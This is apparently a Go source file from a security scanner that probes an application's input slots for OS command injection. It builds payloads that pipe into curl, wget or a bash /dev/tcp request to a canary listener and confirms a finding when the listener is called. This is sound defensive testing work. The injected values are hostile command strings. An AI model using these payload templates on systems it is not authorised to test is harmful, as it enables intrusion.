package injection

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"time"

	"github.com/pavise-dev/pavise/check/probe/internal/trial"
)

// A bell is a command that a shell was asked to run: it rings at the canary.
type bell struct {
	way
	slot    *slot
	token   string
	product int
}

// A way to a shell is a command, and the quotes that the text stands in there.
type way struct {
	tool   tool
	quotes string
	narrow bool // for where there is no room for all quotes
}

// rings are the calls for a bell. What asks for each URL that it reads in a
// text does not work out the product in its path: that is a shell's.
func (b bell) rings(hits []trial.Hit) bool {
	return slices.ContainsFunc(hits, func(h trial.Hit) bool { return h.Path == fmt.Sprintf("/%s/%d", b.token, b.product) })
}

// A tool is a command that asks a host for a path.
type tool func(host, path string) string

// tools are in most images: curl, wget, or bash by itself.
func tools() []tool {
	return []tool{
		func(host, path string) string { return "curl -sm2 http://" + host + path },
		func(host, path string) string { return "wget -qT2 -O- http://" + host + path },
		func(host, path string) string {
			return `bash -c 'printf "GET ` + path + ` HTTP/1.0\r\n\r\n">/dev/tcp/` + strings.Replace(host, ":", "/", 1) + "'"
		},
	}
}

// ways begin with a text for all quotes.
func ways() []way {
	t := tools()
	return []way{{t[0], all, false}, {t[0], "", true}, {t[0], "'", true}, {t[0], `"`, true}, {t[1], "", false}, {t[2], "", false}}
}

// all are quotes of either kind, or none.
const all = "any"

// text has a shell run a command. Like that of shells it is no statement to a
// database.
func (b bell) text(mark, host string, x, y int) string {
	c := "|" + b.tool(host, fmt.Sprintf("/%s/$((%d*%d))", b.token, x, y)) + "|echo "
	if b.quotes == all {
		return mark + c + "'" + c + "'\"" + c + `"`
	}
	return mark + b.quotes + c + b.quotes
}

// bell makes one for a slot, with the text that rings it.
func (g *target) bell(c *trial.Canary, s *slot, w way) (b bell, text string, fits bool) {
	x, y := g.factors()
	b = bell{way: w, slot: s, token: c.Token(g.t), product: x * y}
	text = b.text(g.make.Mark(), c.Addr(), x, y)
	return b, text, s.max < 0 || len(text) <= s.max
}

// ring asks a shell behind the slots of an operation to call the canary: many
// commands' output is shown to nobody.
func (g *target) ring(ctx context.Context, c *trial.Canary) (bells []bell) {
	// The path is for slots that say that they are a program's argument.
	var slots []*slot
	for _, s := range g.slots {
		if _, done := s.settled(); textual(g, s) && s.kind == free && !done && !g.login && (s.In != "path" || runs(s)) {
			slots = append(slots, s)
		}
	}
	roomy := map[*slot]bool{}
	send := func(w way, of []*slot) (rang, taken bool) {
		d, first := g.fresh(), len(bells)
		for _, s := range of {
			if w.narrow && roomy[s] {
				continue
			}
			b, text, fits := g.bell(c, s, w)
			if fits {
				d = d.With(s.Slot, text)
				bells = append(bells, b)
			}
			roomy[s] = roomy[s] || fits && w.quotes == all
		}
		if len(bells) == first {
			return false, true
		}
		e, err := g.send(ctx, d)
		if err != nil {
			return true, true // enough was sent
		}
		for _, b := range bells[first:] {
			rang = rang || b.rings(c.Hits(b.token))
		}
		return rang, !refuses(e)
	}
	for _, w := range ways() {
		rang, taken := send(w, slots)
		if rang {
			break
		}
		if taken || len(slots) == 1 {
			continue
		}
		// One of them is refused for what it is: each by itself.
		for _, s := range slots {
			if rang, _ = send(w, []*slot{s}); rang {
				break
			}
		}
		break
	}
	return bells
}

// rang tells which of the bells were rung, and rings twice more.
func (g *target) rang(ctx context.Context, c *trial.Canary, bells []bell) *outcome {
	for _, b := range bells {
		if !b.rings(c.Hits(b.token)) {
			continue
		}
		var o *outcome
		for range 2 {
			again, text, _ := g.bell(c, b.slot, b.way)
			e, err := g.try(ctx, b.slot, text)
			if err != nil {
				return unclear(err)
			}
			hits := c.Wait(ctx, again.token, 4*patience)
			if !again.rings(hits) {
				o = nil
				break
			}
			o = failed(wantNoCommand, "%s: a shell has run a command, which asked a loopback listener: %s", b.slot, hits[0]).by(e)
		}
		if o != nil {
			return o
		}
	}
	return nil
}

// commandInjection looks for what a command writes, and for what it does where
// nobody is shown that. All bells are rung before any is listened to: many
// commands are run after the answer.
func commandInjection(ctx context.Context, t *trial.Trial, report func(trial.Result)) {
	shown := map[*target]*outcome{}
	bells := map[*target][]bell{}
	c, err := t.Canary()
	near := err == nil && t.Near()
	rung := false
	for _, g := range targets(ctx, t) {
		if ctx.Err() != nil || !hasText(g) || g.draft == nil {
			continue
		}
		shown[g] = commands(ctx, g)
		if shown[g] == nil && near && g.base != nil {
			bells[g] = g.ring(ctx, c)
			rung = rung || len(bells[g]) > 0
		}
		g.restore(ctx)
	}
	if rung {
		select {
		case <-time.After(patience):
		case <-ctx.Done():
		}
	}
	byTarget(hasText, func(ctx context.Context, g *target) *outcome {
		if shown[g] != nil {
			return shown[g]
		}
		return g.rang(ctx, c, bells[g])
	})(ctx, t, report)
}
